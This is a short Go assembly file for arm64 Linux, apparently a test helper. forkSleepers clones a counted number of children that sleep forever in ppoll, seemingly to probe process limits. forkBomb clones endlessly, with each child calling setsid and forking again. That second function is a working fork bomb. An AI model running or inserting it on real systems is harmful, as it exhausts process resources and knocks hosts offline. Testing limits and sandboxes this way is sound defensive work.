#include "textflag.h"

// See fork_linux.go.

// func forkSleepers(n uintptr) (made uintptr)
TEXT ·forkSleepers(SB),NOSPLIT,$0-16
	MOVD n+0(FP), R19
	MOVD $0, R20
next:
	CBZ R19, done
	SUB $1, R19
	MOVD $17, R0 // SIGCHLD
	MOVD $0, R1
	MOVD $0, R2
	MOVD $0, R3
	MOVD $0, R4
	MOVD $220, R8 // clone
	SVC
	CBZ R0, child
	TBNZ $63, R0, next // no room: counted by its absence
	ADD $1, R20
	B next
child:
	MOVD $0, R0
	MOVD $0, R1
	MOVD $0, R2
	MOVD $0, R3
	MOVD $0, R4
	MOVD $73, R8 // ppoll
	SVC
	B child
done:
	MOVD R20, made+8(FP)
	RET

// func forkBomb()
TEXT ·forkBomb(SB),NOSPLIT,$0-0
again:
	MOVD $17, R0 // SIGCHLD
	MOVD $0, R1
	MOVD $0, R2
	MOVD $0, R3
	MOVD $0, R4
	MOVD $220, R8 // clone
	SVC
	CBNZ R0, again
	MOVD $157, R8 // setsid
	SVC
	B again
